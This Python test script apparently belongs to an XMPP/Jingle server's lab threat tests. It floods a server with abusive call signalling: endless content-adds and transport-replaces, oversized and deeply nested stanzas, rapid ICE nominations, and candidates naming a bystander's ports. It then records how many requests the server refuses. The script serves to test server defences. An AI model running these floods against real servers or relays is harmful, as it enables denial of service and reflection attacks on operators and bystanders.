"""What one account may do to the others: each abuse of rows P as two clients do it, as fast as
their server lets them. ``python -m tests.threats.abuses KIND --user NAME ...`` in the NAT lab.

`NAME` calls `deaf-NAME`, its accomplice on the same server, or on ours where `NAME` has another.
When the time is over one JSON object says what was sent, and how much of it was refused with
which text.
"""

import argparse
import asyncio
import contextlib
import itertools
import json
import os
import re
import socket
import sys
import time
from collections import Counter
from collections.abc import AsyncIterator, Awaitable, Callable, Iterator
from dataclasses import dataclass

from tests.lab.world import RELAY, SERVER
from tests.lab.xmpp_actors import Client, Disconnected, as_text, unique
from tests.threats.guards import check

RTP, RAW_UDP = "urn:xmpp:jingle:apps:rtp:1", "urn:xmpp:jingle:transports:raw-udp:1"
ICE_UDP = "urn:xmpp:jingle:transports:ice-udp:1"
FULL = 16
"""Contents that a stanza may have."""
CANDIDATES = 64
"""Candidates that a transport may have."""
CALLS = 6
"""Calls of one user in which two sockets nominate in turn."""
CALL_S = 5.0
"""Long enough for all checks of a call."""
NOMINATIONS_PER_S = 500
BYSTANDER = "198.51.100.77"

Stanza = tuple[str, str, str]


@dataclass(frozen=True, slots=True)
class At:
    """Who does it, and until when (monotonic)."""

    caller: Client
    callee: Client
    until: float


def content(name: str, transport: str, creator: str = "initiator") -> str:
    """An audio content."""
    return (
        f'<content creator="{creator}" name="{name}">'
        f'<description xmlns="{RTP}" media="audio"/>{transport}</content>'
    )


def raw_udp(first: int = 0, count: int = 1) -> str:
    """Candidates that nobody has named before, for RTP and RTCP."""
    told = "".join(
        f'<candidate component="{component}" generation="0" id="c{n}.{component}"'
        f' ip="198.51.100.{n % 254 + 1}" port="{1024 + n % 60000}"/>'
        for n in range(first, first + count)
        for component in (1, 2)
    )
    return f'<transport xmlns="{RAW_UDP}">{told}</transport>'


def contents(first: int, count: int = FULL) -> str:
    """So many contents, named by numbers."""
    return "".join(content(f"c{first + n}", raw_udp(first + n)) for n in range(count))


def adds(sid: str) -> Iterator[Stanza]:
    """More contents, again and again."""
    yield "session-initiate", sid, contents(0, 1)
    for first in itertools.count(1, FULL):
        yield "content-add", sid, contents(first)


def adds_one_by_one(sid: str) -> Iterator[Stanza]:
    """One more content, again and again; where that is refused, the next call."""
    for number in itertools.count():
        yield "session-initiate", f"{sid}.{number}", contents(0, 1)
        for first in range(1, 2 * FULL):
            yield "content-add", f"{sid}.{number}", contents(first, 1)


def replaces(sid: str) -> Iterator[Stanza]:
    """Another transport for each content, again and again."""
    yield "session-initiate", sid, contents(0)
    while True:
        yield "transport-replace", sid, contents(0)


def trickles(sid: str) -> Iterator[Stanza]:
    """Candidates without end."""
    yield "session-initiate", sid, contents(0, 1)
    for first in itertools.count(0, CANDIDATES // 2):
        yield "transport-info", sid, content("c0", raw_udp(first, CANDIDATES // 2))


def offers(sid: str) -> Iterator[Stanza]:
    """Offers of sixteen contents that nobody answers."""
    for number in itertools.count():
        yield "session-initiate", f"{sid}.{number}", contents(0)


def gives_up(sid: str) -> Iterator[Stanza]:
    """Offers of sixteen contents, each ended at once."""
    for number in itertools.count():
        yield "session-initiate", f"{sid}.{number}", contents(0)
        yield "session-terminate", f"{sid}.{number}", "<reason><success/></reason>"


def names(sid: str) -> Iterator[Stanza]:
    """Sids, and names of contents, as long as can be within what is allowed, and longer."""
    for number in itertools.count():
        long = "n" * (4000 if number % 2 else 240)
        told = "".join(content(f"{long}{n}", raw_udp()) for n in range(FULL))
        yield "session-initiate", f"{long}{sid}{number}", told
        yield "session-terminate", f"{long}{sid}{number}", "<reason><success/></reason>"


def rings(sid: str) -> Iterator[Stanza]:
    """Row X8: small offers that are given up, that ring on, and that are odd, in turn."""
    for number in itertools.count():
        odd = raw_udp().replace('port="', 'port="9999') if number % 3 == 2 else raw_udp()
        yield "session-initiate", f"{sid}.{number}", content("c", odd)
        if number % 3 == 1:
            yield "session-terminate", f"{sid}.{number}", "<reason><success/></reason>"


def huge(sid: str) -> Iterator[Stanza]:
    """Row X9: as much as a server takes in one stanza, in candidates, contents, and depth."""
    for number in itertools.count():
        payload = (
            content("c", raw_udp(0, 900)),
            contents(0, 300),
            content("c", raw_udp()) + "<a>" * 500 + "</a>" * 500,
        )[number % 3]
        yield "session-initiate", f"{sid}.{number}", payload


SAID: dict[str, Callable[[str], Iterator[Stanza]]] = {
    "adds": adds,
    "adds-one-by-one": adds_one_by_one,
    "replaces": replaces,
    "trickles": trickles,
    "offers": offers,
    "gives-up": gives_up,
    "names": names,
    "rings": rings,
    "huge": huge,
}


async def says(at: At, kind: str) -> dict[str, object]:
    """One of `SAID` for as long as it lasts."""
    sent: Counter[str] = Counter()
    for action, sid, payload in SAID[kind](unique("x")):
        at.caller.request(at.callee.jid, action, sid, payload)
        sent["stanzas"] += 1
        sent["bytes"] += len(payload)
        if not await _taken(at):
            break
    return dict(sent)


async def retracts(at: At) -> dict[str, object]:
    """Messages that withdraw calls which nobody has made (XEP-0353)."""
    sent = 0
    told = (
        '<message to="{}" id="m{}"><retract xmlns="urn:xmpp:jingle-message:0" id="{}"/></message>'
    )
    while True:
        sent += 1
        at.caller.send(told.format(at.callee.jid, sent, f"call{sent}"))
        if sent % 20 == 0 and not await _taken(at):
            return {"messages": sent}


async def _taken(at: At) -> bool:
    """Wait until the system takes more, and count what came back; False when the time is over."""
    try:
        async with asyncio.timeout(max(0.0, at.until - time.monotonic())):
            await at.caller.flushed()
            await asyncio.sleep(0)
    except TimeoutError:
        return False
    return time.monotonic() < at.until


def ice(ufrag: str, pwd: str, candidates: str = "") -> str:
    """A transport of ICE."""
    return f'<transport xmlns="{ICE_UDP}" ufrag="{ufrag}" pwd="{pwd}">{candidates}</transport>'


def host(address: str, port: int, component: int = 1, more: str = "") -> str:
    """As short a candidate as can be understood."""
    return f'<candidate component="{component}" ip="{address}" port="{port}"{more}/>'


async def nominates(at: At, calls: int = CALLS) -> dict[str, object]:
    """Calls of ICE agents in each of which two sockets of one party nominate in turn."""
    own, peer = ("noisy", "n" * 22), ("deaf", "d" * 22)
    ports = [port for n in range(calls) if (port := await _in_a_call(at, f"ice{n}", own, peer))]
    pair = [_socket() for _ in range(2)]
    sent = 0
    with contextlib.ExitStack() as stack:
        for each in pair:
            stack.enter_context(each)
        while time.monotonic() < at.until and ports:
            for port in ports:
                with contextlib.suppress(BlockingIOError):
                    told = check(own, peer, True, 1, sent)
                    pair[sent // len(ports) % 2].sendto(told, (RELAY, port))
                sent += 1
            await asyncio.sleep(1 / NOMINATIONS_PER_S)
    # Who was nominated is in a call that is not relayed: we would not end it.
    for number in range(calls):
        end = "<reason><success/></reason>"
        at.caller.request(at.callee.jid, "session-terminate", f"ice{number}", end)
    await at.caller.flushed()
    return {"calls": len(ports), "nominations": sent}


async def _in_a_call(at: At, sid: str, own: tuple[str, str], peer: tuple[str, str]) -> int:
    """Make a call; the relay's port that the caller is told of, 0 where there is none."""
    more = ' foundation="1" generation="0" priority="1" protocol="udp" type="host"'
    told = [host("198.51.100.1", 9, more=f'{more} id="{sid}"')] * 2
    at.caller.request(at.callee.jid, "session-initiate", sid, content("voice", ice(*own, told[0])))
    offer = await at.callee.next_request(sid)
    at.callee.acknowledge(offer)
    at.callee.request(at.caller.jid, "session-accept", sid, content("voice", ice(*peer, told[1])))
    accepted = as_text(await at.caller.next_request(sid))
    found = [
        re.search(r' port="(\d+)"', each)
        for each in re.findall(r"<[^>]*candidate [^>]*>", accepted)
        if RELAY in each and 'component="1"' in each
    ]
    return int(found[0][1]) if found and found[0] is not None else 0


async def names_a_bystander(at: At, count: int) -> dict[str, object]:
    """Calls of sixteen contents, one after the other, each of whose ICE candidates are so many of a
    bystander's ports."""
    sent = calls = 0
    told = "".join(host(BYSTANDER, 9000 + n) for n in range(count))
    payload = "".join(content(f"c{n}", ice("u", "p" * 22, told)) for n in range(FULL))
    answer = "".join(content(f"c{n}", ice("w", "q" * 22)) for n in range(FULL))
    while time.monotonic() < at.until:
        sid = unique("by")
        at.caller.request(at.callee.jid, "session-initiate", sid, payload)
        sent += len(payload)
        calls += 1
        with contextlib.suppress(TimeoutError):
            at.callee.acknowledge(await at.callee.next_request(sid))
            at.callee.request(at.caller.jid, "session-accept", sid, answer)
        await asyncio.sleep(CALL_S)
        at.caller.request(at.callee.jid, "session-terminate", sid, "<reason><success/></reason>")
    return {"calls": calls, "named_bytes": sent}


def _socket() -> socket.socket:
    made = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    made.bind(("", 0))
    made.setblocking(False)
    return made


OTHERS: dict[str, Callable[[At], Awaitable[dict[str, object]]]] = {
    "nominates": nominates,
    "retracts": retracts,
    "names-one-port": lambda at: names_a_bystander(at, 1),
    "names-many-ports": lambda at: names_a_bystander(at, CANDIDATES),
}


@contextlib.asynccontextmanager
async def clients(options: argparse.Namespace) -> AsyncIterator[tuple[Client, Client]]:
    """Both are cut off in the end: a server that reads slowly would keep an orderly end waiting."""
    made = []
    try:
        deaf = f"deaf-{options.user}@{options.domain}/x"
        made.append(await Client.login(options.caller, f"{options.user}@{options.caller.domain}/x"))
        made.append(await Client.login(options, deaf))
        yield made[0], made[1]
    finally:
        for client in made:
            await client.drop()


async def abuse(options: argparse.Namespace) -> dict[str, object]:
    """As told."""
    async with clients(options) as (caller, callee):
        sys.stdout.write("ready\n")
        sys.stdout.flush()
        at = At(caller, callee, time.monotonic() + options.seconds)
        told: dict[str, object] = {}
        with contextlib.suppress(Disconnected, ConnectionError):
            if options.kind in SAID:
                told = await says(at, options.kind)
            else:
                told = await OTHERS[options.kind](at)
        answers = [as_text(e) for e in caller.inbox if e.get("type") == "error"]
        texts = (re.search(r"text[^>]*>([^<]*)", answer) for answer in answers)
        reasons = Counter(found[1] for found in texts if found is not None)
        told["refused"] = sum("resource-constraint" in answer for answer in answers)
        told["reasons"] = dict(reasons)
        return told


def _endpoint(text: str) -> tuple[str, int]:
    address, _, port = text.rpartition(":")
    return address, int(port)


def main() -> None:
    """Abuse as told."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("kind", choices=(*SAID, *OTHERS))
    parser.add_argument("--c2s", type=_endpoint, default=(SERVER, 5222))
    parser.add_argument("--domain", default="example.org")
    parser.add_argument("--abroad", nargs=2, metavar=("C2S", "DOMAIN"), help="the caller's server")
    parser.add_argument("--user", default="noisy")
    parser.add_argument("--seconds", type=float, default=10.0)
    options = parser.parse_args()
    options.caller = options
    if options.abroad:
        c2s, domain = options.abroad
        options.caller = argparse.Namespace(c2s=_endpoint(c2s), domain=domain)
    os.nice(5)  # the victim is what is measured
    sys.stdout.write(json.dumps(asyncio.run(abuse(options))) + "\n")


if __name__ == "__main__":
    main()
